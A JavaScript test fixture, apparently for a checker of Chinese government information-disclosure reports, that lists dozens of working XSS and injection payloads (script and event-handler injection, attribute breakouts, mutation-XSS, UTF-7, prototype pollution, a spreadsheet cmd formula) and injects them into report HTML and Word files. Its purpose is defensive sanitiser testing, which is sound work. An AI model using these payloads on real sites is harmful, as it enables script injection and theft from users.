// What attackers put where text is expected: one entry for each way by which text has become markup, script or a request in other programs. Each runs
// `self.pwned = 1`, opens a dialog, or asks the listener for something as soon as it is taken for more than text.
//
// `live` says where it is: the places of `CONTEXTS` in which a test has to see it come to life, so that nothing here is harmless by mistake; an entry
// without any lives in a program that is not there, and says which.

const RUN = "self.pwned=1";

/** Careless ways to put text into a page, for the proof that a payload is one. */
export const CONTEXTS = {
  markup: (text) => `<p>${text}</p>`,
  double: (text) => `<p title="${text}">a</p>`,
  single: (text) => `<p title='${text}'>a</p>`,
  bare: (text) => `<p title=${text}>a</p>`,
  title: (text) => `<title>${text}</title>`,
  area: (text) => `<textarea>${text}</textarea>`,
  style: (text) => `<style>${text}</style>`,
  comment: (text) => `<!-- ${text} -->`,
  script: (text) => `<script>var a = "${text}";</script>`,
  link: (text) => `<a id="go" href="${text}">a</a>`,
  decoded: (text) => `<p>${text.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&")}</p>`,
  cell: (text) => `<table><tr><td>${text}</td></tr></table>`,
};

/** @param {string} listener the address that must hear nothing */
export const payloads = (listener) => [
  // Script elements: as they are, in odd case, with a source, unclosed, and nested so that one pass of removal leaves another.
  { text: `<script>${RUN}</script>`, live: ["markup"] },
  { text: `<ScRiPt >${RUN}</sCrIpT >`, live: ["markup"] },
  { text: `<script src="${listener}/script"></script>`, live: ["markup"] },
  { text: `<script src=${listener}/unclosed `, live: ["markup"] },
  { text: `<scr<script>ipt>${RUN}</scr</script>ipt><script>${RUN}</script>`, live: ["markup"] },
  // Elements whose loading fails or ends, so that a handler runs without anybody doing anything.
  { text: `<img src=x onerror=${RUN}>`, live: ["markup", "cell"] },
  { text: `<img src=x onerror="alert(1)">`, live: ["markup"] },
  { text: `<IMG/SRC=x/ONERROR=${RUN}//`, live: ["markup"] },
  { text: `<svg onload=${RUN}>`, live: ["markup"] },
  { text: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, live: ["markup"] },
  { text: `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#a">`, live: ["markup"] },
  { text: `<video><source onerror=${RUN}></video>`, live: ["markup"] },
  { text: `<details open ontoggle=${RUN}>a</details>`, live: ["markup"] },
  { text: `<input autofocus onfocus=${RUN}>`, live: ["markup"] },
  { text: `<body onload=${RUN} onpageshow=${RUN}>`, live: ["markup"] },
  { text: `<marquee onstart=${RUN}>a</marquee>`, live: ["markup"] },
  // Documents within the document.
  { text: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, live: ["markup"] },
  { text: `<iframe src="javascript:parent.pwned=1"></iframe>`, live: ["markup"] },
  { text: `<object data="${listener}/object"></object><embed src="${listener}/embed">`, live: ["markup"] },
  // Nothing runs, but something is asked for: pictures, styles, preloads, pings, and pages that go elsewhere by themselves.
  { text: `<img src="${listener}/image" srcset="${listener}/image-2x 2x">`, live: ["markup"] },
  { text: `<link rel=stylesheet href="${listener}/style"><link rel=prefetch href="${listener}/prefetch">`, live: ["markup"] },
  { text: `<style>@import "${listener}/import";*{background:url(${listener}/background)}</style>`, live: ["markup"] },
  { text: `<p style="background:url(${listener}/inline)">a</p>`, live: ["markup"] },
  { text: `<meta http-equiv=refresh content="0;url=${listener}/refresh">`, live: ["markup"] },
  { text: `<base href="${listener}/"><a href=a ping="${listener}/ping">a</a>`, live: ["markup"] },
  { text: `<form action="${listener}/form"><input type=image src="${listener}/form-image" formaction="javascript:${RUN}"></form>`, live: ["markup"] },
  { text: `<video poster="${listener}/poster" src="${listener}/video"></video><audio src="${listener}/audio" autoplay>`, live: ["markup"] },
  // Out of an attribute: double quotes, single quotes, none.
  { text: `"><img src=x onerror=${RUN}>`, live: ["double"] },
  { text: `'><img src=x onerror=${RUN}>`, live: ["single"] },
  { text: `" onmouseover="${RUN}" autofocus tabindex=0 onfocus="${RUN}`, live: ["double"] },
  { text: `a onmouseover=${RUN} style=position:fixed`, live: ["bare"] },
  { text: `javascript:${RUN}`, live: ["link"] },
  { text: `java\tscript:${RUN}//`, live: ["link"] },
  { text: `data:text/html,<script>${RUN}</script>`, live: ["link"] },
  // Out of an element that holds text alone, as the title of a saved slip does.
  { text: `</title><script>${RUN}</script>`, live: ["title"] },
  { text: `</textarea><img src=x onerror=${RUN}>`, live: ["area"] },
  { text: `</style><img src=x onerror=${RUN}>`, live: ["style"] },
  { text: `--><img src=x onerror=${RUN}><!--`, live: ["comment"] },
  { text: `</script><img src=x onerror=${RUN}>`, live: ["script"] },
  { text: `</td></tr></table></div><img src=x onerror=${RUN}>`, live: ["cell"] },
  // What one parser takes for text and another for markup: foreign content, noscript, CDATA, and entities that are decoded once too often.
  { text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`, live: ["markup"] },
  { text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, live: ["markup"] },
  { text: `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${RUN}>">`, live: ["markup"] },
  { text: `<template><img src=x onerror=${RUN}></template><select><template shadowrootmode=open><img src=x onerror=${RUN}>`, live: ["markup"] },
  { text: `&lt;img src=x onerror=${RUN}&gt;`, live: ["decoded"] },
  { text: `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;&lt;script&gt;${RUN}&lt;/script&gt;`, live: ["decoded"] },
  // Elements with a meaning of their own in the page: one more checker, and ids that code looks for.
  { text: `<gouji-checker whole></gouji-checker><form id=app><input name=attributes></form>`, live: ["markup"] },
  // For programs that are not there: template languages, UTF-7, strings that end a line of script, prototypes in JSON, formulas of a spreadsheet.
  { text: `\${self.pwned=1}{{constructor.constructor('self.pwned=1')()}}<%= 1 %>#{1}`, live: [], of: "template languages" },
  { text: `+ADw-script+AD4-self.pwned=1+ADw-/script+AD4-`, live: [], of: "a browser that guesses UTF-7" },
  { text: `\u2028';self.pwned=1//\u2029";self.pwned=1//`, live: ["script"] },
  { text: `{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}`, live: [], of: "a merge of JSON into an object" },
  { text: `=HYPERLINK("${listener}/formula","a")+cmd|' /C calc'!A1`, live: [], of: "a spreadsheet" },
];

const escaped = (text) => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** A title with a text for its authority; the checker takes it for one where it has at most 60 characters and no mark that ends a sentence. */
export const titled = (text) => `${text}2026年政府信息公开年报`;
export const fits = (text) => text.replace(/\s/g, "").length <= 44 && !/[。;《》]/.test(text) && !/^[^:]{0,6}:/.test(text);

/**
 * A report with payloads in every text and cell. The title and the authority in it have the one with this index, and all else has all of them in turn.
 * @param {string} report the HTML of a report
 * @param {string[]} texts
 * @param {"text" | "labels" | "markup"} how `text`: as words of the document; `labels`: in the headings and labels too, which costs rows; `markup`: as
 *   its markup, and in its attributes
 */
export function poisoned(report, texts, index, how) {
  let at = index - 1;
  const next = () => texts[(at += 1) % texts.length];
  const put = how === "markup" ? (text) => text : escaped;
  const title = titled(put(next()));
  let cell = 0;
  return report
    .replace(/某镇人民政府2026年政府信息公开工作年度报告/g, (all) => (how === "labels" ? all : title))
    .replace(/<\/p>/g, () => `。${put(next())}。</p>`)
    .replace("新收政府信息公开申请30件", () => `新收政府信息公开申请99件${put(next())}`)
    .replace(/<td([^>]*)>([^<]*)<\/td>/g, (all, spans, text) => {
      const figure = /^[\d/O]*$/.test(text);
      if (!figure) return how === "labels" ? `<td${spans}>${text}${put(next())}</td>` : all;
      cell += 1;
      if (how === "markup") return `<td${spans} title="${escaped(next())}" class='${next().replace(/'/g, "")}' onclick="${escaped(next())}">${text}${next()}</td>`;
      return cell % 3 === 0 ? `<td${spans}>${put(next())}</td>` : cell % 3 === 1 ? `<td${spans}>${text || 0}（${put(next())}）</td>` : all;
    })
    .replace(/<h2>([^<]*)<\/h2>/g, (all, heading) => (how === "labels" ? `<h2>${heading}${put(next())}</h2>` : all));
}

/** The files of a package, stored as they are. */
function zip(files) {
  const crc = (bytes) => {
    let sum = -1;
    for (const byte of bytes) {
      sum ^= byte;
      for (let bit = 0; bit < 8; bit += 1) sum = (sum >>> 1) ^ (sum & 1 ? 0xedb88320 : 0);
    }
    return (sum ^ -1) >>> 0;
  };
  const parts = [];
  const directory = [];
  let at = 0;
  for (const [name, text] of Object.entries(files)) {
    const [path, bytes] = [Buffer.from(name), Buffer.from(text)];
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt32LE(crc(bytes), 10);
    head.writeUInt32LE(bytes.length, 14);
    head.writeUInt32LE(bytes.length, 18);
    head.writeUInt16LE(path.length, 22);
    parts.push(Buffer.from("PK\x03\x04"), head, path, bytes);
    const place = Buffer.alloc(16);
    place.writeUInt32LE(at, 12);
    // Between the lengths and the place stand the comment's length, the disk and the attributes, which are all nought.
    directory.push(Buffer.from("PK\x01\x02"), Buffer.from([20, 0]), head.subarray(0, 26), place.subarray(2), path);
    at += 30 + path.length + bytes.length;
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  for (const offset of [4, 6]) end.writeUInt16LE(Object.keys(files).length, offset);
  end.writeUInt32LE(list.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...parts, list, Buffer.from("PK\x05\x06"), end]);
}

/** A Word document of these paragraphs and one table with these cells. */
export function docx(paragraphs, cells) {
  const paragraph = (text) => `<w:p><w:r><w:t xml:space="preserve">${escaped(text)}</w:t></w:r></w:p>`;
  return zip({
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    "word/document.xml": `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${paragraphs.map(paragraph).join("")}<w:tbl>${cells.map((text) => `<w:tr><w:tc>${paragraph("自然人")}</w:tc><w:tc>${paragraph(text)}</w:tc></w:tr>`).join("")}</w:tbl></w:body></w:document>`,
  });
}
